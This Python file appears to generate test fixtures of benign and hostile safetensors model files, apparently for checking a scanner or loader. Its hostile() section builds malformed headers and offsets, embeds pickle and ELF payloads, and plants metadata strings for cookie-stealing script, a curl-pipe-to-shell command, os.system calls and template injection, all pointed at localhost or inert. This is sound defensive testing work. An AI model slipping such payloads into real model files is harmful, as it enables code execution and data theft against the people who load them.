"""safetensors, written byte by byte from the format's page: https://github.com/huggingface/safetensors#format"""
import json
import random
import struct

from kit import evil, zipped

SIZES = {"F64": 8, "F32": 4, "F16": 2, "BF16": 2, "I64": 8, "I32": 4, "I16": 2, "I8": 1, "U8": 1, "BOOL": 1, "F8_E4M3": 1, "F8_E5M2": 1, "U16": 2, "U32": 4, "U64": 8}


def file(header, data=b"", pad=True):
    text = header.encode() if isinstance(header, str) else json.dumps(header, separators=(",", ":")).encode()
    if pad:
        text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def tensors(shapes, metadata=None, seed=1):
    header, data = ({"__metadata__": metadata} if metadata is not None else {}), b""
    source = random.Random(seed)
    for name, (dtype, shape) in shapes.items():
        count = 1
        for dimension in shape:
            count *= dimension
        if dtype == "F32":
            part = struct.pack(f"<{count}f", *(source.gauss(0, 0.02) for _ in range(count)))
        elif dtype == "F64":
            part = struct.pack(f"<{count}d", *(source.gauss(0, 0.02) for _ in range(count)))
        elif dtype in ("F16", "BF16"):
            part = b"".join((struct.pack("<e", source.gauss(0, 0.02)) if dtype == "F16" else struct.pack("<f", source.gauss(0, 0.02))[2:]) for _ in range(count))
        elif dtype == "BOOL":
            part = bytes(source.randrange(2) for _ in range(count))
        else:
            part = bytes(source.randrange(100) for _ in range(count * SIZES[dtype]))
        header[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [len(data), len(data) + len(part)]}
        data += part
    return header, data


def make(s):
    benign(s)
    hostile(s)


def benign(s):
    layers = {f"model.layers.{n}.{name}.weight": ("F32", (8, 8)) for n in range(3) for name in ("q_proj", "k_proj", "v_proj", "mlp.up", "mlp.down")}
    s.ben("model.safetensors", file(*tensors(layers, {"format": "pt"})), "weights with format metadata", "safetensors format")
    s.ben("plain.safetensors", file(*tensors({"a": ("F32", (4,))})), "no metadata", "safetensors format")
    s.ben("unpadded.safetensors", file(*tensors({"weight": ("F32", (4,))}), pad=False), "header without padding", "safetensors format")
    for dtype in SIZES:
        s.ben(f"dtype-{dtype}.safetensors", file(*tensors({"weight": (dtype, (6, 4)), "bias": (dtype, (6,))}, {"format": "np"})), f"{dtype} tensors", "safetensors format")
    s.ben("empty.safetensors", file({}), "no tensors", "safetensors format")
    s.ben("only-metadata.safetensors", file({"__metadata__": {"format": "pt"}}), "metadata without tensors", "safetensors format")
    s.ben("scalar.safetensors", file(*tensors({"step": ("I64", ())})), "a scalar", "safetensors format")
    s.ben("zero-size.safetensors", file(*tensors({"empty": ("F32", (0, 4)), "w": ("F32", (2,))})), "a tensor without elements", "safetensors format")
    s.ben("lora.safetensors", file(*tensors({f"base_model.model.layers.{n}.lora_{side}.weight": ("F16", (4, 16)) for n in range(2) for side in "AB"}, {"format": "pt"})), "LoRA adapter", "safetensors format")
    s.ben("training-metadata.safetensors", file(*tensors(layers, {"ss_base_model_version": "sd_v1", "ss_network_dim": "16", "ss_learning_rate": "0.0001", "modelspec.title": "watercolour", "modelspec.date": "2026-01-02T03:04:05", "ss_tag_frequency": "{\"set\": {\"a dog, outside\": 3}}"})), "metadata of a trainer", "kohya's keys")
    s.ben("unicode.safetensors", file(*tensors({"gewicht.größe": ("F32", (2,))}, {"author": "Zoë"})), "names beyond ASCII", "safetensors format")
    s.ben("mixed.safetensors", file(*tensors({"w": ("F32", (3, 3)), "ids": ("I64", (5,)), "mask": ("BOOL", (7,)), "h": ("BF16", (2, 2))})), "several types", "safetensors format")


def hostile(s):
    mal = s.mal
    peers = "peers' comparison"
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    two = {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}
    data = struct.pack("<4f", 0.1, 0.2, 0.3, 0.4)
    good = file({"a": one, "b": two}, data)
    mal("s01-header-length.safetensors", struct.pack("<Q", 1 << 60) + b"{}", "header longer than the file", peers)
    mal("s02-overlap.safetensors", file({"a": one, "b": {**two, "data_offsets": [4, 12]}}, data[:12]), "tensors that overlap", peers)
    mal("s03-trailing-elf.safetensors", good + b"\x7fELF\x02\x01\x01" + bytes(100), "program behind the tensors", peers)
    mal("s04-duplicate-key.safetensors", file('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', data[:8]), "key twice", peers)
    mal("hole.safetensors", file({"a": one, "b": {**two, "data_offsets": [12, 20]}}, data + bytes(4)), "hole between tensors")
    mal("beyond-end.safetensors", file({"a": {**one, "shape": [4096], "data_offsets": [0, 16384]}}, data), "offsets beyond the file")
    mal("negative.safetensors", file({"a": {**one, "data_offsets": [-8, 0]}}, data), "negative offset")
    mal("reversed.safetensors", file({"a": {**one, "data_offsets": [8, 0]}}, data), "offsets the wrong way round")
    mal("shape-lies.safetensors", file({"a": {**one, "shape": [4096]}}, data[:8]), "shape larger than the bytes")
    mal("shape-overflow.safetensors", file({"a": {**one, "shape": [1 << 33, 1 << 33]}}, data[:8]), "shape that overflows")
    mal("shape-negative.safetensors", file({"a": {**one, "shape": [-2]}}, data[:8]), "negative dimension")
    mal("dtype-unknown.safetensors", file({"a": {**one, "dtype": "OBJECT"}}, data[:8]), "type that does not exist")
    mal("trailing-pickle.safetensors", good + evil(), "pickle behind the tensors")
    mal("trailing-zip.safetensors", good + zipped(("data.pkl", evil())), "archive behind the tensors: opens as both")
    mal("pickle-header.safetensors", evil() + good, "pickle in front")
    mal("metadata-number.safetensors", file({"__metadata__": {"a": 1}, "a": one, "b": two}, data), "metadata that is no text")
    mal("metadata-pickle.safetensors", file({"__metadata__": {"state": __import__("base64").b64encode(evil()).decode()}, "a": one, "b": two}, data), "base64 pickle in the metadata")
    mal("metadata-script.safetensors", file({"__metadata__": {"config": "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"}, "a": one, "b": two}, data), "script in the metadata")
    mal("metadata-shell.safetensors", file({"__metadata__": {"notes": "$(curl -s http://127.0.0.1:9/inert | sh)"}, "a": one, "b": two}, data), "shell command in the metadata")
    mal("metadata-python.safetensors", file({"__metadata__": {"init": "__import__('os').system('echo inert')"}, "a": one, "b": two}, data), "Python in the metadata")
    mal("metadata-template.safetensors", file({"__metadata__": {"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, "a": one, "b": two}, data), "template injection in the metadata")
    mal("comment-json.safetensors", file('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}/* x */}', data[:8]), "comment in the header")
    mal("header-trailing.safetensors", file(json.dumps({"a": one}) + ' {"b": 1}', data[:8]), "second object in the header")
    mal("header-deep.safetensors", file('{"a":' * 5000 + "1" + "}" * 5000), "header nested 5,000 deep")
    mal("header-nul.safetensors", file(json.dumps({"a": one}).encode().decode() + "\0" * 8, data[:8], pad=False), "zeros behind the header's object")
    mal("tensor-executable.safetensors", file({"a": {"dtype": "U8", "shape": [128], "data_offsets": [0, 128]}}, b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0" + bytes(108)), "program as a tensor")
    mal("tensor-pickle.safetensors", file({"a": {"dtype": "U8", "shape": [len(evil())], "data_offsets": [0, len(evil())]}}, evil()), "pickle as a tensor")
    mal("unknown-field.safetensors", file({"a": {**one, "loader": "os.system"}}, data[:8]), "field that the format does not have")
    mal("truncated.safetensors", good[:-6], "cut at its end")
